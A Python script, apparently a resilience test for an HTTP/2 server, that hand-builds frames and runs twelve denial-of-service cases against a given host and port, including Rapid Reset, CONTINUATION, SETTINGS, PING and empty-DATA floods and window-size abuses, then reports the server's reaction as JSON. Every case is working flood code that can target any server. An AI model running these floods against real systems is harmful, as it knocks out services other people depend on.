"""HTTP/2 from clients who are not after answers, made by hand from bytes. Prints one JSON document.

usage: h2_floods.py CASE HOST PORT PATH

Each attack goes on for as long as it is let, and at most for so many frames: `sent` of them were, `goaway` is the code with
which the server said goodbye, `closed` whether it left, and `answers` how many heads came.
"""
import json, select, socket, struct, sys, time

DATA, HEADERS, RST_STREAM, SETTINGS, PING, GOAWAY, WINDOW_UPDATE, CONTINUATION = 0, 1, 3, 4, 6, 7, 8, 9
END_STREAM, END_HEADERS, ACK = 1, 4, 1
PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
INITIAL_WINDOW_SIZE = 4
# How long the server may take to leave, once nothing more is sent.
PATIENCE = 20


def frame(kind, flags, stream, body=b""):
    return struct.pack(">I", len(body))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + body


def setting(name, value):
    return frame(SETTINGS, 0, 0, struct.pack(">HI", name, value))


class Attacker:
    def __init__(self, host, port, *first):
        self.socket = socket.create_connection((host, port))
        self.socket.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
        self.authority = f"{host}:{port}".encode()
        self.sent, self.answers, self.body_len, self.goaway, self.reset = 0, 0, 0, None, {}
        self.closed, self.came = False, b""
        self.socket.sendall(PREFACE + (b"".join(first) or frame(SETTINGS, 0, 0)))

    def head(self, path, method=0x82):
        """A field block: GET (or PUT), http, the path, the authority; nothing is put into the table of fields."""
        first = bytes([method]) if isinstance(method, int) else b"\x02" + bytes([len(method)]) + method
        path = path.encode()
        return first + b"\x86\x04" + bytes([len(path)]) + path + b"\x01" + bytes([len(self.authority)]) + self.authority

    def send(self, *frames):
        """Whether the server takes more."""
        try:
            self.socket.sendall(b"".join(frames))
            self.sent += len(frames)
        except OSError:
            self.closed = True
        self.look(0)
        return not self.closed and self.goaway is None

    def look(self, seconds):
        end = time.monotonic() + seconds
        while not self.closed:
            ready, _, _ = select.select([self.socket], [], [], max(0, end - time.monotonic()))
            if not ready:
                return
            try:
                piece = self.socket.recv(1 << 16)
            except OSError:
                piece = b""
            if not piece:
                self.closed = True
            self.came += piece
            self.read()

    def read(self):
        while len(self.came) >= 9 and len(self.came) >= (end := 9 + int.from_bytes(self.came[:3], "big")):
            kind, flags, stream = self.came[3], self.came[4], int.from_bytes(self.came[5:9], "big")
            body, self.came = self.came[9:end], self.came[end:]
            if kind == HEADERS:
                self.answers += 1
            elif kind == DATA:
                self.body_len += len(body)
            elif kind == RST_STREAM:
                self.reset[stream] = int.from_bytes(body, "big")
            elif kind == GOAWAY:
                self.goaway = int.from_bytes(body[4:8], "big")
            elif kind == SETTINGS and not flags & ACK:
                try:
                    self.socket.sendall(frame(SETTINGS, ACK, 0))
                except OSError:
                    self.closed = True

    def end(self, patience=PATIENCE):
        end = time.monotonic() + patience
        while not self.closed and time.monotonic() < end:
            self.look(0.2)
        return {"sent": self.sent, "answers": self.answers, "body_len": self.body_len, "goaway": self.goaway,
                "closed": self.closed, "reset": sorted(set(self.reset.values()))}


def rapid_reset(to, path):
    """Requests that are given up in the same breath (CVE-2023-44487)."""
    it = Attacker(*to)
    for stream in range(1, 200_001, 2):
        if not it.send(frame(HEADERS, END_STREAM | END_HEADERS, stream, it.head(path)),
                       frame(RST_STREAM, 0, stream, struct.pack(">I", 8))):
            break
    return it.end()


def made_to_reset(to, path):
    """Requests that the server has to reset itself: a window that grows past what there is (CVE-2025-8671)."""
    it = Attacker(*to)
    for stream in range(1, 200_001, 2):
        if not it.send(frame(HEADERS, END_STREAM | END_HEADERS, stream, it.head(path)),
                       frame(WINDOW_UPDATE, 0, stream, struct.pack(">I", 0x7FFF_FFFF))):
            break
    return it.end()


def continuation(to, path):
    """A head that never ends (CVE-2024-27316)."""
    it = Attacker(*to)
    it.send(frame(HEADERS, END_STREAM, 1, it.head(path)))
    field = b"\x00\x01x\x7f\x81\x01" + b"v" * 256
    for _ in range(100_000):
        if not it.send(frame(CONTINUATION, 0, 1, field * 40)):
            break
    return it.end()


def empty_continuation(to, path):
    """The same, of nothing."""
    it = Attacker(*to)
    it.send(frame(HEADERS, END_STREAM, 1, it.head(path)))
    for _ in range(5000):
        if not it.send(*[frame(CONTINUATION, 0, 1)] * 100):
            break
    return it.end()


def overflow(to, path):
    """A window for all streams that grows past what there is (section 6.9.1 of RFC 9113)."""
    it = Attacker(*to)
    it.send(frame(WINDOW_UPDATE, 0, 0, struct.pack(">I", 0x7FFF_FFFF)))
    return it.end()


def nothing_more(to, path):
    """A window that is opened by nothing."""
    it = Attacker(*to)
    it.send(frame(WINDOW_UPDATE, 0, 0, struct.pack(">I", 0)))
    return it.end()


def too_wide(to, path):
    """A setting that no window may have."""
    it = Attacker(*to, setting(INITIAL_WINDOW_SIZE, 0x8000_0000))
    return it.end()


def tiny_windows(to, path):
    """A byte at a time, of many streams."""
    it = Attacker(*to, setting(INITIAL_WINDOW_SIZE, 1))
    streams = range(1, 101, 2)
    for stream in streams:
        it.send(frame(HEADERS, END_STREAM | END_HEADERS, stream, it.head(path)))
    for _ in range(200):
        if not it.send(*(frame(WINDOW_UPDATE, 0, stream, struct.pack(">I", 1)) for stream in streams)):
            break
        it.look(0.005)
    return it.end(1)


def seesaw(to, path):
    """Windows that are closed and opened again while everything waits."""
    it = Attacker(*to, setting(INITIAL_WINDOW_SIZE, 0))
    for stream in range(1, 101, 2):
        it.send(frame(HEADERS, END_STREAM | END_HEADERS, stream, it.head(path)))
    for turn in range(20_000):
        if not it.send(setting(INITIAL_WINDOW_SIZE, turn % 2)):
            break
    return it.end(1)


def settings(to, path):
    """Settings without end, each of which wants an answer that is not taken (CVE-2019-9515)."""
    it = Attacker(*to)
    return flood(it, frame(SETTINGS, 0, 0))


def pings(to, path):
    """The same of pings (CVE-2019-9512)."""
    it = Attacker(*to)
    return flood(it, frame(PING, 0, 0, b"8 bytes!"))


def flood(it, one):
    """Sends and takes nothing, as long as the server takes it."""
    it.socket.setblocking(False)
    many, end = one * 1000, time.monotonic() + 5
    while time.monotonic() < end and it.sent < 2_000_000:
        try:
            it.sent += it.socket.send(many) // len(one)
        except BlockingIOError:
            time.sleep(0.01)
        except OSError:
            it.closed = True
            break
    it.socket.setblocking(True)
    it.socket.settimeout(5)
    return it.end(1)


def empty_data(to, path):
    """A recording of nothing, in pieces of nothing (CVE-2019-9518)."""
    it = Attacker(*to)
    it.send(frame(HEADERS, END_HEADERS, 1, it.head("/recordings/of-nothing/media", b"PUT")))
    for _ in range(2000):
        if not it.send(*[frame(DATA, 0, 1)] * 100):
            break
    it.send(frame(DATA, END_STREAM, 1))
    return it.end(2)


CASES = {case.__name__.replace("_", "-"): case
         for case in (rapid_reset, made_to_reset, continuation, empty_continuation, overflow, nothing_more, too_wide,
                      tiny_windows, seesaw, settings, pings, empty_data)}

if __name__ == "__main__":
    case, host, port, path = sys.argv[1:]
    print(json.dumps(CASES[case]((host, int(port)), path)))
